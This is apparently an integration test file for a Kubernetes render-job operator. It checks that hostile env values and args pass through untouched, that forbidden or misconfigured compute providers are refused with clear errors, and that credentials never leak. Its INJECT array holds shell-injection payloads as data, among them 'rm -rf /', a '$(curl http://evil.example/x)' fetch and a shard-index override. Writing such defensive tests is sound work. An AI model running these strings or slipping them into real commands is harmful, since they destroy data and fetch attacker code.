// Hostile input, one integration pass through the real operator (issue #13): what a careless or
// malicious author can put in a RenderJob or a ComputeProvider, each met with a clear error or carried
// verbatim, with no side effect and nothing lost. The CRD schema's rejections (huge counts and frame
// ranges, malformed durations and prices, …) are test/crds.test.ts; malformed provider answers
// (50 MiB bodies, trickling bodies, invalid JSON) are operator/src/providers/http.hostile.test.ts.
//   - env values and args with shell and JSON injection reach the shard byte for byte, locally (the
//     pod) and remotely (the Render fake's own record of the job's env), and the job succeeds;
//   - a ProviderOnly job naming only a provider its namespace may not use: a condition and an Event
//     say why, and the provider never hears of it;
//   - a ComputeProvider whose Secret is missing, or lacks the key: Ready=False naming the Secret and
//     key, no request reaches the provider; a subnet kubeconfig pointing nowhere or whose CA does not
//     match the peer: Ready=False with the reason, no shard sent.
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { RenderFake } from '../fakes/render.js';
import { installCrds } from '../support/crds.js';
import { startOperator, type OperatorProcess } from '../support/operator.js';
import { createComputeProvider, deleteComputeProviders } from '../support/providers.js';
import { clients, freshNamespace, testbed, waitFor, type Clients } from '../support/testbed.js';
import { createJob, getJob, listPods, renderJob } from '../operator/helpers.js';

const CP = { group: 'atelier.dev', version: 'v1alpha1', plural: 'computeproviders' } as const;
const render = new RenderFake({ assignDelayMs: 100, startMs: 100, jobDurationMs: 1000, gpus: { 'NVIDIA H100': 8 } });
const NAMES = { ok: 'hostile-render', forbidden: 'hostile-forbidden', noSecret: 'hostile-nosecret', wrongKey: 'hostile-wrongkey', nowhere: 'hostile-nowhere', badCa: 'hostile-badca' };
const INJECT = ['"; rm -rf / #', '$(curl http://evil.example/x)', '`id`', '{"a":"b"}\\", "ATELIER_SHARD_INDEX": "99', "'\n--output=/etc/passwd", 'ünïcødé ☃ \u0000?'.replace('\u0000', '')];

let c: Clients;
let ns: string;
let op: OperatorProcess;

const cpStatus = async (name: string) => (await c.custom.getClusterCustomObject({ ...CP, name })) as { status?: { conditions?: { type: string; status: string; reason: string; message: string }[] } };
const ready = async (name: string) => (await cpStatus(name)).status?.conditions?.find((x) => x.type === 'Ready');

beforeAll(async () => {
  c = clients();
  await installCrds();
  await render.start();
  ns = await freshNamespace(c, 'hostile');
  const other = await freshNamespace(c, 'hostile-other');
  await c.core.createNamespace({ body: { metadata: { name: 'atelier-system' } } }).catch(() => undefined);
  const cred = `${render.opts.publicKey}:${render.opts.secretKey}`;
  await createComputeProvider(c, NAMES.ok, 'render', render.url, cred, { pricePerGpuHour: '2.20' }, { allowedNamespaces: [ns] });
  await createComputeProvider(c, NAMES.forbidden, 'render', render.url, cred, { pricePerGpuHour: '2.20' }, { allowedNamespaces: [other] });
  // no Secret at all, and a Secret without the named key
  await createComputeProvider(c, NAMES.noSecret, 'render', render.url, cred, { pricePerGpuHour: '2.20' }, { credentialsSecretRef: { namespace: 'atelier-system', name: 'hostile-absent', key: 'credential' } });
  await createComputeProvider(c, NAMES.wrongKey, 'render', render.url, cred, { pricePerGpuHour: '2.20' }, { credentialsSecretRef: { namespace: 'atelier-system', name: NAMES.wrongKey, key: 'apiKey' } });
  // subnet kubeconfigs: an API server that is not there, and the test-bed's server with another CA
  const kc = readFileSync(testbed().kubeconfig, 'utf8');
  const nowhere = kc.replace(/server: https:\/\/127\.0\.0\.1:\d+/, 'server: https://127.0.0.1:47');
  const wrongCa = kc.replace(/certificate-authority-data: \S+/, `certificate-authority-data: ${Buffer.from(otherCa()).toString('base64')}`);
  for (const [name, text] of [[NAMES.nowhere, nowhere], [NAMES.badCa, wrongCa]] as const) {
    await c.core.createNamespacedSecret({ namespace: 'atelier-system', body: { metadata: { name }, stringData: { kubeconfig: text } } });
    await c.custom.createClusterCustomObject({
      ...CP, body: { apiVersion: 'atelier.dev/v1alpha1', kind: 'ComputeProvider', metadata: { name }, spec: { type: 'subnet', payoutAddress: '0x70997970C51812dc3A010C7d01b50e0d17dc79C8', subnet: { kubeconfigSecretRef: { namespace: 'atelier-system', name, key: 'kubeconfig' }, namespace: 'shared-renders' }, options: { pricePerGpuHour: '0.50' } } },
    });
  }
  op = startOperator(testbed().kubeconfig, ['--namespace', ns, '--leader-elect', 'false', '--remote-poll', '1', '--provider-probe', '2']);
  await op.waitForLog('caches synced, starting controllers', 90_000);
}, 180_000);

afterAll(async () => {
  await op?.kill('SIGTERM');
  await deleteComputeProviders(c, Object.values(NAMES));
  await render.stop();
});

function hostileJob(name: string, policy: string, providers: string[]): Record<string, unknown> {
  const j = renderJob(name, { count: 2, models: ['nvidia-h100'] }) as { spec: Record<string, unknown> & { template: Record<string, unknown> } };
  j.spec.template.env = INJECT.map((value, i) => ({ name: `HOSTILE_${i}`, value }));
  j.spec.template.args = INJECT;
  j.spec.placement = { policy, providers };
  return j as unknown as Record<string, unknown>;
}

test('shell and JSON injection in env and args reach the shard byte for byte, locally and remotely', async () => {
  await createJob(c, ns, hostileJob('inject-local', 'LocalOnly', []));
  await createJob(c, ns, hostileJob('inject-remote', 'ProviderOnly', [NAMES.ok]));
  for (const name of ['inject-local', 'inject-remote']) {
    await waitFor(`${name} Succeeded`, async () => {
      const j = await getJob(c, ns, name);
      if (j.status?.phase === 'Failed') throw new Error(JSON.stringify(j.status.conditions));
      return j.status?.phase === 'Succeeded';
    }, 120_000, 500);
  }
  const want = Object.fromEntries(INJECT.map((v, i) => [`HOSTILE_${i}`, v]));
  for (const p of await listPods(c, ns, 'inject-local')) {
    const ctr = p.spec!.containers[0]!;
    expect(Object.fromEntries((ctr.env ?? []).filter((e) => e.name.startsWith('HOSTILE_')).map((e) => [e.name, e.value]))).toEqual(want);
    expect(ctr.args).toEqual(INJECT);
    // the shard's own variables are the operator's, whatever the values above say
    expect((ctr.env ?? []).filter((e) => e.name === 'ATELIER_SHARD_INDEX').map((e) => e.value)).toEqual([p.metadata!.labels!['atelier.dev/shard']]);
  }
  const uid = (await getJob(c, ns, 'inject-remote')).metadata.uid!;
  const remote = (render as unknown as { order: { key?: string; env: Record<string, string> }[] }).order.filter((j) => j.key?.startsWith(`${uid}-`));
  expect(remote.length).toBeGreaterThanOrEqual(2);
  for (const j of remote) {
    expect(Object.fromEntries(Object.entries(j.env).filter(([k]) => k.startsWith('HOSTILE_')))).toEqual(want);
    expect(j.env.ATELIER_SHARD_INDEX).toMatch(/^[01]$/);
  }
}, 180_000);

test('a job naming only a provider its namespace may not use says so, and the provider never hears of it', async () => {
  const before = render.server.requests.filter((r) => r.method === 'POST' && r.path === '/v1/jobs').length;
  await createJob(c, ns, hostileJob('forbidden', 'ProviderOnly', [NAMES.forbidden]));
  const said = await waitFor('a condition or Event naming the refusal', async () => {
    const j = await getJob(c, ns, 'forbidden');
    const cond = j.status?.conditions?.find((x) => x.type === 'Bursting' && x.reason === 'NoEligibleOffer' && /does not allow namespace/.test(x.message));
    const ev = (await c.core.listNamespacedEvent({ namespace: ns })).items.find((e) => e.involvedObject.name === 'forbidden' && e.type === 'Warning' && e.reason === 'NoEligibleOffer' && /does not allow namespace/.test(e.message ?? ''));
    return cond && ev ? { cond, ev } : undefined;
  }, 60_000, 500);
  console.log(`forbidden provider: condition ${said.cond.type}/${said.cond.reason}: ${said.cond.message}; event ${said.ev.reason}: ${said.ev.message}`);
  expect(said.cond.message).toContain(NAMES.forbidden);
  expect(render.server.requests.filter((r) => r.method === 'POST' && r.path === '/v1/jobs').length).toBe(before);
  expect((await listPods(c, ns, 'forbidden')).length).toBe(0);
}, 120_000);

test.each([
  { what: 'a missing Secret', name: NAMES.noSecret, message: /atelier-system\/hostile-absent.*not found/ },
  { what: 'a Secret without the named key', name: NAMES.wrongKey, message: new RegExp(`atelier-system/${NAMES.wrongKey}.*apiKey`) },
  { what: 'a subnet kubeconfig pointing nowhere', name: NAMES.nowhere, message: /ECONNREFUSED 127\.0\.0\.1:47/ },
  { what: 'a subnet kubeconfig whose CA does not match the peer', name: NAMES.badCa, message: /certificate|self.signed|issuer|verify/i },
])('a ComputeProvider with $what is not Ready and says why', async ({ name, message }) => {
  const r = await waitFor(`${name} Ready=False`, async () => {
    const x = await ready(name);
    return x?.status === 'False' ? x : undefined;
  }, 60_000, 500);
  console.log(`${name}: Ready=False ${r.reason}: ${r.message}`);
  expect(r.message).toMatch(message);
  // the credential never shows, and nothing was sent with a wrong one
  expect(r.message).not.toContain(render.opts.secretKey);
});

/** A CA that signed nothing the test-bed serves: made here with openssl, thrown away after. */
function otherCa(): string {
  return execFileSync('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes', '-keyout', '/dev/null', '-subj', '/CN=atelier-other-ca', '-days', '1'], { stdio: ['ignore', 'pipe', 'ignore'] }).toString();
}
